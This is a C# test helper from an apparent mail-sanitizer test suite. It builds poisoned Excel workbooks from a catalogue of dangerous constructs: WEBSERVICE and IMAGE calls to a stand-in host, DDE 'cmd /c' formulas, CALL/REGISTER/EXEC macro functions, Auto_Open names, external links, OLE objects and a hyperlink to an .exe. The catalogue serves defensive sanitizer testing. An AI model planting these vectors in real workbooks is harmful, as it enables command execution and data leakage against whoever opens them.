using System.Globalization;

namespace MiyakoMailSanitizer.EndToEnd.Tests.Office;

/// <summary>What can be put into workbooks.</summary>
internal static class ExcelPoison
{
    private const string Names = "xmlns:x=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";

    private static readonly string[] Formulas =
    [
        "WEBSERVICE(\"http://poisonmark.example/\"&amp;A1)", "_xlfn.WEBSERVICE(\"http://poisonmark\")", "webservice (\"poisonmark\")", "SUM(1,_xlfn.WEBSERVICE(\"poisonmark\"))",
        "HYPERLINK(\"file:///poisonmark\",\"x\")", "cmd|'/c poisonmark'!A1", "CMD|'/c poisonmark'!_xlbgnm.A1", "DDE(\"cmd\",\"/c poisonmark\",\"x\")", "[1]poisonmark!A1", "'[1]poisonmark'!A1",
        "'http://poisonmark.example/[b.xlsx]s'!A1", "'\\\\poisonmark\\[b.xlsx]s'!A1", "'C:\\[poisonmark.xlsx]s'!A1", "EXEC(\"poisonmark\")", "CALL(\"urlmon\",\"poisonmark\",\"J\")",
        "REGISTER(\"poisonmark\")", "REGISTER.ID(\"poisonmark\",\"b\")", "RTD(\"poisonmark\",\"\",\"x\")", "_xlfn.IMAGE(\"http://poisonmark\")", "IMAGE(\"http://poisonmark\")",
        "_xll.poisonmark(1)", "poisonmark(1)", "EVALUATE(\"poisonmark\")", "INDIRECT(\"[poisonmark.xlsx]s!A1\")", "_xlfn._xlws.PY(\"poisonmark\",1)", "FILTERXML(\"poisonmark\",\"b\")",
        "CUBEVALUE(\"poisonmark\")", "_xlfn.STOCKHISTORY(\"poisonmark\")", "GET.WORKSPACE(\"poisonmark\")", "_xlfn.SINGLE(poisonmark!A1|b)", "SQL.REQUEST(\"poisonmark\")",
        "_xludf.poisonmark(1)", "@WEBSERVICE(\"poisonmark\")", "A1:INDEX(WEBSERVICE(\"poisonmark\"),1)", "{WEBSERVICE(\"poisonmark\")}", "\"a\"&amp;WEBSERVICE(\"poisonmark\")", "WEBSERVICE\n(\"poisonmark\")",
        "_XLFN.webservice(\"poisonmark\")", "LET(_xlpm.f,WEBSERVICE,_xlpm.f(\"poisonmark\"))", "LAMBDA(_xlpm.x,_xlfn.WEBSERVICE(_xlpm.x))(\"poisonmark\")", "_xlfn.MAP(A1,WEBSERVICE)&amp;\"poisonmark\"",
    ];

    public static IEnumerable<(string Name, Action<PoisonedPackage> Put)> Kinds()
    {
        var row = 900_000;
        foreach (var formula in Formulas)
        {
            var number = ++row;
            yield return ($"formula {formula}", p => Sheet(p, "sheetData", string.Create(CultureInfo.InvariantCulture,
                $"<x:row {Names} r=\"{number}\"><x:c r=\"A{number}\"><x:f>{formula}</x:f><x:v>1</x:v></x:c><x:c r=\"B{number}\"><x:f t=\"array\" ref=\"B{number}\">{formula}</x:f><x:v>1</x:v></x:c></x:row>")));
            yield return ($"rule and name of {formula}", p =>
            {
                Sheet(p, "worksheet", string.Create(CultureInfo.InvariantCulture, $"<x:conditionalFormatting {Names} sqref=\"A1\"><x:cfRule type=\"expression\" priority=\"{number}\"><x:formula>{formula}</x:formula></x:cfRule></x:conditionalFormatting>"));
                Sheet(p, "worksheet", $"<x:dataValidations {Names} count=\"1\"><x:dataValidation type=\"custom\" sqref=\"A1\"><x:formula1>{formula}</x:formula1></x:dataValidation></x:dataValidations>");
                p.Insert(p.Main, "workbook", string.Create(CultureInfo.InvariantCulture, $"<x:definedNames {Names}><x:definedName name=\"n{number}\">{formula}</x:definedName></x:definedNames>"));
            }
            );
        }

        foreach (var name in new[] { "Auto_Open", "_xlnm.Auto_Open", "auto_open77", "Auto_Close", "_xlnm.Auto_Activate", "AUTO_OPEN" })
            yield return ($"name {name}", p => p.Insert(p.Main, "workbook", $"<x:definedNames {Names}><x:definedName name=\"{name}\" function=\"1\" vbProcedure=\"1\" xlm=\"1\" hidden=\"1\" comment=\"poisonmark\">poisonmark</x:definedName></x:definedNames>"));
        yield return ("link", p => Sheet(p, "worksheet", s => $"<x:hyperlinks {Names}><x:hyperlink ref=\"A1\" r:id=\"{p.Relate(s, "hyperlink", "file:///poisonmark.exe", isExternal: true)}\"/></x:hyperlinks>"));
        yield return ("objects and controls", p => Sheet(p, "worksheet", s => $"<x:oleObjects {Names}><x:oleObject progId=\"poisonmark\" link=\"[1]!poisonmark\" oleUpdate=\"OLEUPDATE_ALWAYS\" shapeId=\"1\"/></x:oleObjects>"
            + $"<x:controls {Names}><x:control shapeId=\"1\" name=\"poisonmark\" r:id=\"{p.Relate(s, "control", "http://poisonmark/", isExternal: true)}\"><x:controlPr macro=\"poisonmark\"/></x:control></x:controls>"));
        yield return ("publishing", p => Sheet(p, "worksheet", $"<x:webPublishItems {Names}><x:webPublishItem id=\"1\" divId=\"a\" sourceType=\"sheet\" destinationFile=\"http://poisonmark\"/></x:webPublishItems>"));
        yield return ("other workbooks", p => p.Insert(p.Main, "workbook", $"<x:externalReferences {Names}><x:externalReference r:id=\"{p.AddPart(p.Main, "externalLink", "xl/externalLinks/externalLink77.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"poisonmark\" ddeTopic=\"a\"/></externalLink>"u8.ToArray())}\"/></x:externalReferences>"));
        yield return ("pivot cache", p => p.Insert(p.Main, "workbook", $"<x:pivotCaches {Names}><x:pivotCache cacheId=\"1\" r:id=\"poisonmark\"/></x:pivotCaches>"));
    }

    private static void Sheet(PoisonedPackage package, string element, string xml) => Sheet(package, element, _ => xml);

    private static void Sheet(PoisonedPackage package, string element, Func<string, string> xml)
    {
        if (package.Targets(package.Main, "worksheet").FirstOrDefault() is { } sheet)
            package.Insert(sheet, element, xml(sheet));
    }
}
